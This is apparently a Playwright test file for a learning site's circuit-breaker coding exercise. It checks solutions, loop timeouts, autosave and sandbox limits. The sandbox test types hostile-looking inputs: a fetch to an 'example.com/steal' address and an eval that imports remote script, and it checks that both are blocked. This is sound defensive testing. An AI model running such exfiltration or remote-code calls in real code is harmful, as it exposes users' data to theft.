import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Locator, Page } from '@playwright/test';
import { expect, expectAccessible, reveal, test } from './fixtures';

const lesson = '/learn/control-distribution/circuit-breakers';
const solution = readFileSync(
  path.join(
    import.meta.dirname,
    '..',
    'content/control-distribution/exercises/breaker-basic/solution.ts',
  ),
  'utf8',
);

/** The exercise's editor, Monaco once it has loaded: replaces all of its text with `code`. */
async function typeCode(page: Page, exercise: Locator, code: string) {
  const lines = exercise.locator('.monaco-editor .view-lines');
  await expect(lines).toHaveCount(1, { timeout: 30_000 });
  await lines.click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.insertText(code);
  // Let the editor's change reach the exercise before anything runs.
  await page.waitForTimeout(200);
}

/** The first exercise on the lesson page, once its view (not the placeholder) has loaded. */
async function openExercise(page: Page): Promise<Locator> {
  const exercise = page.getByRole('region', { name: 'Exercise: Circuit breaker from scratch' });
  await reveal(exercise);
  await expect(exercise.getByRole('button', { name: 'Run the checks' })).toBeAttached({
    timeout: 20_000,
  });
  await exercise.scrollIntoViewIfNeeded();
  return exercise;
}

test.describe('Coding exercises', () => {
  test('a correct solution passes every check, and the reference can then be compared', async ({
    page,
  }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    const run = exercise.getByRole('button', { name: 'Run the checks' });
    // The starter compiles but does not do the job yet.
    await run.click();
    await expect(exercise.locator('.exercise-verdict')).toContainText(
      /Some checks fail|raised an error/,
      {
        timeout: 20_000,
      },
    );
    await expect(exercise.getByText('Hint:').first()).toBeVisible();
    await typeCode(page, exercise, solution);
    await run.click();
    await expect(exercise.locator('.exercise-verdict')).toContainText('Every check passes.', {
      timeout: 20_000,
    });
    await exercise.getByRole('button', { name: 'Compare with the reference solution' }).click();
    await expect(exercise.locator('.exercise-diff')).toBeVisible();
    await expectAccessible(page);
  });

  test('an endless loop is stopped within the time limit while the page stays responsive', async ({
    page,
  }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    await typeCode(page, exercise, 'while (true) {}\nexport class CircuitBreaker {}\n');
    const started = Date.now();
    await exercise.getByRole('button', { name: 'Run the checks' }).click();
    // While the loop spins, the page scrolls and answers.
    await page.mouse.wheel(0, 400);
    expect(await page.evaluate(() => document.title.length > 0)).toBe(true);
    await expect(exercise.locator('.exercise-verdict')).toContainText('did not finish within 3 s', {
      timeout: 6_000,
    });
    expect(Date.now() - started).toBeLessThan(6_000);
  });

  test('code that reaches for storage, the page or the network fails safely, in words', async ({
    page,
  }) => {
    const outside: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('http://localhost') && !r.url().startsWith('blob:'))
        outside.push(r.url());
    });
    await page.goto(lesson);
    const exercise = await openExercise(page);
    const verdict = exercise.locator('.exercise-verdict');
    const run = exercise.getByRole('button', { name: 'Run the checks' });
    for (const [code, message] of [
      [
        "localStorage.getItem('x');\nexport class CircuitBreaker {}\n",
        'localStorage is not available',
      ],
      ['document.title;\nexport class CircuitBreaker {}\n', 'The page (document) is not available'],
      [
        "void fetch('https://example.com/steal');\nexport class CircuitBreaker {}\n",
        'fetch is not available',
      ],
      [
        'eval("import(\'https://example.com/x.js\')");\nexport class CircuitBreaker {}\n',
        'Making code from a string',
      ],
    ] as const) {
      await typeCode(page, exercise, code);
      await run.click();
      await expect(verdict).toContainText(message, { timeout: 20_000 });
      await expect(verdict).toContainText('line 1');
    }
    expect(outside).toEqual([]);
  });

  test('the code is saved with the learner’s progress and survives a reload', async ({ page }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    await typeCode(page, exercise, '// my work in progress\nexport class CircuitBreaker {}\n');
    await page.waitForTimeout(800); // autosave waits for a pause in typing
    await page.reload();
    const again = await openExercise(page);
    await expect(again.locator('.monaco-editor')).toContainText('my work in progress', {
      timeout: 30_000,
    });
    await again.getByRole('button', { name: 'Reset to the starter code' }).click();
    await expect(again.locator('.monaco-editor')).not.toContainText('my work in progress');
  });
});
